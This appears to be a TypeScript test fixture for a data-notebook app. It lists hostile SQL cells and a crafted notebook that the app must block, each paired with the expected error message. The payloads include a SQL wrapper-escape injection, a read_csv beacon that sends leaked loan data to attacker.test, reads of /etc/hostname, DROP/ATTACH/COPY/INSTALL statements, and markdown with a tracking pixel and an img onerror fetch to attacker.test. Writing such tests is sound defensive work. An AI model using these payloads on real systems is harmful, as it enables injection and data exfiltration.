import { FORMAT_VERSION, type Notebook } from '../../src/lib/notebook/notebook';

/**
 * What an attacker would put in a notebook sent as a link, a file or a report, opened by someone
 * with the loan sample loaded (table loan_approval): each SQL cell tries to leave the machine, read
 * or write past the data, or change the engine, and must end in the plain message given. Host
 * names, not addresses: the egress test maps every name but localhost to its own listener.
 */
export const HOSTILE_SQL: { name: string; sql: string; says: string }[] = [
  {
    // Issue 15's link: escape the old wrapper to put five values in a variable...
    name: 'leak',
    sql: "SELECT 1 AS x); SET VARIABLE leak = (SELECT string_agg(CAST(income_k AS VARCHAR), '|') FROM (SELECT income_k FROM loan_approval LIMIT 5)); SELECT (1",
    says: 'A SQL cell runs one query (SELECT or WITH); DuckDB cannot read it: syntax error at or near ")" (line 1 of the cell).',
  },
  {
    // ...and send it to another host.
    name: 'beacon',
    sql: "SELECT * FROM read_csv('http://attacker.test/leak?d=' || coalesce(getvariable('leak'), 'none'))",
    says: noAccess('http://attacker.test/leak?d=none'),
  },
  {
    name: 'https',
    sql: "SELECT * FROM read_csv('https://example.com/x.csv')",
    says: noAccess('https://example.com/x.csv'),
  },
  {
    name: 'parquet_url',
    sql: "SELECT * FROM read_parquet('https://example.com/x.parquet')",
    says: "read_parquet is part of DuckDB's parquet extension, which Slicebook does not load: query the loaded tables by their names instead.",
  },
  {
    name: 'local_file',
    sql: "SELECT * FROM read_text('/etc/hostname')",
    says: noAccess('/etc/hostname'),
  },
  { name: 'drop', sql: 'DROP TABLE loan_approval', says: statement('a DROP') },
  {
    name: 'escape_drop',
    sql: 'SELECT 1 AS x); DROP TABLE loan_approval; SELECT (1',
    says: 'A SQL cell runs one query (SELECT or WITH); DuckDB cannot read it: syntax error at or near ")" (line 1 of the cell).',
  },
  {
    name: 'two_statements',
    sql: 'SELECT 1; DROP TABLE loan_approval',
    says: 'A SQL cell runs one query (SELECT or WITH); this cell has more than one statement. Keep one query, and put any other query in a cell of its own.',
  },
  {
    name: 'attach',
    sql: "ATTACH 'https://example.com/db.duckdb' AS remote",
    says: statement('an ATTACH'),
  },
  {
    name: 'copy',
    sql: "COPY loan_approval TO 'https://example.com/up.csv'",
    says: statement('a COPY'),
  },
  { name: 'install', sql: 'INSTALL httpfs', says: statement('an INSTALL') },
  { name: 'load', sql: 'LOAD httpfs', says: statement('a LOAD') },
  { name: 'set', sql: 'SET enable_external_access = true', says: statement('a SET') },
];

/** The one honest cell: it must still count every row of the user's table. */
export const COUNTED = { name: 'counted', sql: 'SELECT count(*) AS n FROM loan_approval' };

export const HOSTILE_FILTER = {
  filter: 'true) OR (true',
  says: "The filter must be one condition on the data's columns (e.g. region = 'north' AND age >= 30); DuckDB cannot read this one as one: syntax error at or near \")\".",
};

function noAccess(path: string): string {
  return `Cannot access file "${path}": a notebook reads only the files you loaded, by their table names, and nothing from the network or your disk.`;
}

function statement(which: string): string {
  return `A SQL cell runs one query (SELECT or WITH); this cell has ${which} statement, which a SQL cell does not run.`;
}

/** The notebook: every hostile SQL cell, the honest count, markdown and a chart that reach out. */
export function hostileNotebook(): Notebook {
  const cell = (name: string, kind: string, settings: Record<string, unknown>) => ({
    id: name,
    name,
    kind,
    collapsed: false,
    ...settings,
  });
  return {
    version: FORMAT_VERSION,
    title: 'Quarterly numbers',
    filter: HOSTILE_FILTER.filter,
    cells: [
      cell('notes', 'markdown', {
        text: [
          '# Quarterly numbers',
          '![pixel](http://attacker.test/pixel.png)',
          '<img src="https://example.com/x.png" onerror="fetch(\'http://attacker.test/js\')">',
          '[the source](http://attacker.test/?d=1)',
        ].join('\n\n'),
      }),
      ...HOSTILE_SQL.map((h) => cell(h.name, 'sql', { sql: h.sql })),
      cell(COUNTED.name, 'sql', { sql: COUNTED.sql }),
      cell('overview', 'overview', { dataset: 'ds_loan_approval' }),
      cell('picture', 'chart', {
        source: COUNTED.name,
        spec: JSON.stringify({
          data: { url: 'http://attacker.test/data.csv' },
          mark: 'image',
          encoding: { url: { value: 'http://attacker.test/img.png' } },
        }),
      }),
    ],
    data: [{ name: 'loan-approval.parquet', size: 158_000, rows: 20_000, sha256: null }],
    datasets: {},
    stacking: [],
  };
}

/** The notebook as a `.slicebook.json` file's text (as serializeNotebook writes it). */
export function hostileNotebookFile(): string {
  return JSON.stringify({ format: 'slicebook', ...hostileNotebook() }, null, 2);
}
